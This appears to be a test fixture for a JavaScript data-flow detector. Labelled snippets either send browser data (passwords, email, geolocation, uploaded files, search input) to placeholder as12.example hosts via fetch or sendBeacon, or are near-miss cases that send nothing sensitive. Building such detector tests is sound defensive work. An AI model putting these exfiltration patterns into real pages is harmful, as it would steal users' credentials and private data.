//# async-generator-of-events
// flow: search > age.as12.example via fetch
async function* typed(el) {
  while (true) {
    const e = await new Promise((res) => el.addEventListener('input', res, { once: true }));
    yield e.target.value;
  }
}
(async () => {
  for await (const q of typed(document.querySelector('input[type=search]'))) await fetch('https://age.as12.example/?q=' + encodeURIComponent(q));
})();

//# near-async-generator-counted
// no flow
async function* typed(el) {
  while (true) {
    const e = await new Promise((res) => el.addEventListener('input', res, { once: true }));
    yield e.target.value;
  }
}
(async () => {
  let n = 0;
  for await (const q of typed(document.querySelector('input[type=search]'))) {
    document.querySelector('#echo').textContent = q;
    await fetch('https://agc.as12.example/?n=' + ++n);
  }
})();

//# promise-all-destructured
// flow: device > pad.as12.example via fetch
Promise.all([navigator.getBattery(), fetch('/conf.json').then((r) => r.json())]).then(([battery, conf]) => {
  fetch('https://pad.as12.example/b', { method: 'POST', body: JSON.stringify({ l: battery.level, v: conf.version }) });
});

//# near-promise-all-other-place
// no flow
Promise.all([navigator.getBattery(), fetch('/conf.json').then((r) => r.json())]).then(([battery, conf]) => {
  document.querySelector('#bat').textContent = battery.level;
  fetch('https://npa.as12.example/b', { method: 'POST', body: JSON.stringify({ v: conf.version }) });
});

//# all-settled-values
// flow: password > asv.as12.example via beacon
const reads = [
  async () => document.querySelector('input[type=password]').value,
  async () => { throw new Error('none'); },
];
Promise.allSettled(reads.map((r) => r())).then((out) => {
  const good = out.filter((o) => o.status === 'fulfilled').map((o) => o.value);
  navigator.sendBeacon('https://asv.as12.example/r', JSON.stringify(good));
});

//# near-all-settled-states
// no flow
const reads = [
  async () => document.querySelector('input[type=password]').value,
  async () => { throw new Error('none'); },
];
Promise.allSettled(reads.map((r) => r())).then((out) => {
  navigator.sendBeacon('https://ass.as12.example/r', out.map((o) => o.status).join());
});

//# retried-upload
// flow: file > rtu.as12.example via fetch
async function retry(fn, left) {
  try {
    return await fn();
  } catch (err) {
    if (left <= 0) throw err;
    await new Promise((r) => setTimeout(r, 300));
    return retry(fn, left - 1);
  }
}
document.querySelector('#up').onclick = () =>
  retry(() => fetch('https://rtu.as12.example/f', { method: 'PUT', body: document.querySelector('input[type=file]').files[0] }), 3);

//# generator-runner
// flow: location > gru.as12.example via fetch
function run(make) {
  const it = make();
  (function step(v) {
    const r = it.next(v);
    if (r.done) return;
    Promise.resolve(r.value).then(step);
  })();
}
run(function* () {
  const pos = yield new Promise((ok) => navigator.geolocation.getCurrentPosition(ok));
  yield fetch('https://gru.as12.example/?la=' + pos.coords.latitude);
});

//# near-generator-only-counted
// no flow
function* items() {
  yield document.querySelector('input[autocomplete=one-time-code]').value;
  yield 'done';
}
let n = 0;
for (const _ of items()) n++;
fetch('https://goc.as12.example/?n=' + n);

//# deferred-resolved-elsewhere
// flow: email > dre.as12.example via beacon
class Deferred {
  constructor() { this.promise = new Promise((ok, no) => { this.resolve = ok; this.reject = no; }); }
}
const ready = new Deferred();
ready.promise.then((v) => navigator.sendBeacon('https://dre.as12.example/e', v));
document.querySelector('#email').onchange = (e) => ready.resolve(e.target.value);

//# near-deferred-of-another
// no flow
// why: the deferred whose value is sent is resolved with a constant
class Deferred {
  constructor() { this.promise = new Promise((ok, no) => { this.resolve = ok; this.reject = no; }); }
}
const mail = new Deferred(), page = new Deferred();
page.promise.then((v) => navigator.sendBeacon('https://ndo.as12.example/e', v));
mail.promise.then((v) => { document.querySelector('#shown').textContent = v; });
document.querySelector('#email').onchange = (e) => mail.resolve(e.target.value);
page.resolve('loaded');

//# compiled-awaiter
// flow: password > caw.as12.example via fetch
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
  function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
  return new (P || (P = Promise))(function (resolve, reject) {
    function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
    function rejected(value) { try { step(generator['throw'](value)); } catch (e) { reject(e); } }
    function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
    step((generator = generator.apply(thisArg, _arguments || [])).next());
  });
};
function read() {
  return __awaiter(this, void 0, void 0, function* () { return document.querySelector('input[type=password]').value; });
}
function submit() {
  return __awaiter(this, void 0, void 0, function* () {
    const pw = yield read();
    yield fetch('https://caw.as12.example/l', { method: 'POST', body: pw });
  });
}
submit();
